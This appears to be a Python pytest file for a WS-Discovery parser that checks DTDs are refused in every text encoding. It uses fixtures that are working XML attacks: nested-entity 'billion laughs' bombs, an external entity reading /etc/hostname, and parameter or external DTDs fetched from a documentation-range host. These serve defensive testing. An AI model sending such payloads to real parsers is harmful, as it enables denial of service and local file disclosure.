"""Attack: an XML bomb or an external entity in a WS-Discovery datagram, in any encoding.

Anyone on the link may send the handler a datagram. A DTD is refused by the parser itself,
whatever the bytes' encoding, so entities are never declared, let alone expanded or fetched.
"""

from __future__ import annotations

import itertools
import logging
import socket

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from akri.discovery_handlers.onvif import probe, wsdiscovery
from akri.discovery_handlers.onvif.wsdiscovery import Message
from tests.handlers.fake_onvif import LOOPBACK
from tests.support import eventually

ENV = "http://www.w3.org/2003/05/soap-envelope"
WSA = "http://schemas.xmlsoap.org/ws/2004/08/addressing"
WSD = "http://schemas.xmlsoap.org/ws/2005/04/discovery"


def nested_entities(levels: int) -> str:
    """A DTD whose last entity expands to 10**levels copies of `lol`."""
    entities = ['<!ENTITY e0 "lol">']
    entities += [f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, levels + 1)]
    return f"<!DOCTYPE Envelope [{''.join(entities)}]>"


def probe_match(dtd: str, address: str) -> str:
    return (
        f'<?xml version="1.0"?>{dtd}<s:Envelope xmlns:s="{ENV}" xmlns:a="{WSA}" xmlns:d="{WSD}">'
        "<s:Header><a:RelatesTo>urn:uuid:1</a:RelatesTo></s:Header><s:Body><d:ProbeMatches>"
        f"<d:ProbeMatch><a:EndpointReference><a:Address>{address}</a:Address>"
        "</a:EndpointReference><d:Types>dn:NetworkVideoTransmitter</d:Types>"
        "<d:XAddrs>http://192.0.2.7/onvif/device_service</d:XAddrs></d:ProbeMatch>"
        "</d:ProbeMatches></s:Body></s:Envelope>"
    )


BOMB = probe_match(nested_entities(5), "urn:uuid:&e5;")
EXTERNAL = probe_match('<!DOCTYPE Envelope [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;")
PARAMETER = probe_match('<!DOCTYPE Envelope [<!ENTITY % p SYSTEM "http://192.0.2.1/d">%p;]>', "a")
EXTERNAL_DTD = probe_match('<!DOCTYPE Envelope SYSTEM "http://192.0.2.1/evil.dtd">', "a")
INTERNAL = probe_match('<!DOCTYPE Envelope [<!ENTITY u "urn:uuid:feed">]>', "&u;")


# Python codec -> the name a declaration gives it (UTF-16 without a BOM is big-endian).
ENCODINGS = {
    "utf-8": "UTF-8",
    "utf-16": "UTF-16",  # with a BOM
    "utf-16-be": "UTF-16",  # no BOM: the parser finds it from the first bytes
    "utf-16-le": "UTF-16LE",
    "utf-32": "UTF-32",  # expat reads no UTF-32: refused as unreadable, never expanded
}
READABLE = [codec for codec in ENCODINGS if codec != "utf-32"]


def encoded(text: str, codec: str) -> bytes:
    """`text` in `codec`, its declaration naming it."""
    declaration = f'<?xml version="1.0" encoding="{ENCODINGS[codec]}"?>'
    return text.replace('<?xml version="1.0"?>', declaration).encode(codec)


DOCUMENTS = {
    "bomb": BOMB,
    "external": EXTERNAL,
    "parameter": PARAMETER,
    "external-dtd": EXTERNAL_DTD,
    "internal": INTERNAL,
}


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
@pytest.mark.parametrize("document", sorted(DOCUMENTS))
def test_any_dtd_is_refused_in_every_encoding(
    document: str, encoding: str, caplog: pytest.LogCaptureFixture
) -> None:
    assert wsdiscovery.parse(encoded(DOCUMENTS[document], encoding)) is None
    assert ("DTD" if encoding in READABLE else "not well-formed") in caplog.text


def test_the_same_message_without_its_dtd_is_read_in_every_encoding() -> None:
    """The refusal is the DTD's: the encodings themselves are read."""
    for encoding in READABLE:
        message = wsdiscovery.parse(encoded(probe_match("", "urn:uuid:feed"), encoding))
        assert message is not None, encoding
        assert [e.uuid for e in message.endpoints] == ["feed"]


def test_a_seven_level_utf16_bomb_in_one_datagram_is_refused() -> None:
    """The review's attack: 10**7 copies from a UTF-16 datagram that needs no fragmenting (the
    raw-bytes pattern missed it; expanded, it cost 0.6 s of CPU and 60 MB on the loop)."""
    names = "abcdefgh"
    entities = '<!ENTITY a "lol">' + "".join(
        f'<!ENTITY {n} "{f"&{p};" * 10}">' for p, n in itertools.pairwise(names)
    )
    text = (
        f'<?xml version="1.0" encoding="UTF-16LE"?><!DOCTYPE E [{entities}]><E><Body>'
        "<ProbeMatches><ProbeMatch><Address>&h;</Address></ProbeMatch></ProbeMatches></Body></E>"
    )
    data = text.encode("utf-16-le")
    assert len(data) < 1472  # one Ethernet frame's UDP payload
    assert wsdiscovery.parse(data) is None


async def test_a_bomb_on_a_real_socket_never_reaches_the_handler() -> None:
    """Sent to the probe's own listening socket from another socket: nothing is delivered."""
    received: list[Message] = []
    family = probe.families_of(probe.Links(LOOPBACK), 0)[0]
    transport = await probe.datagrams(family, (LOOPBACK, 0), received.append, join=False)
    try:
        address = transport.get_extra_info("sockname")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as attacker:
            for encoding in ENCODINGS:
                attacker.sendto(encoded(BOMB, encoding), address)
            attacker.sendto(encoded(probe_match("", "urn:uuid:feed"), "utf-16-le"), address)
        # The harmless datagram, sent last on the same path, marks the end.
        await eventually(lambda: received, "the harmless datagram")
    finally:
        transport.close()
    assert [[e.uuid for e in m.endpoints] for m in received] == [["feed"]]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    head=st.sampled_from(["", '<?xml version="1.0"?>', nested_entities(2), "<!DOCTYPE x>"]),
    body=st.text(max_size=200),
    encoding=st.sampled_from(["utf-8", "utf-16", "utf-16-le", "utf-32", "latin-1"]),
    tail=st.binary(max_size=40),
)
def test_fuzzed_datagrams_are_read_or_refused_never_raised(
    head: str, body: str, encoding: str, tail: bytes
) -> None:
    data = (head + probe_match("", body)).encode(encoding, errors="replace") + tail
    logging.disable(logging.WARNING)
    try:
        message = wsdiscovery.parse(data)
    finally:
        logging.disable(logging.NOTSET)
    assert message is None or isinstance(message, Message)
    if "<!" in head:
        assert message is None
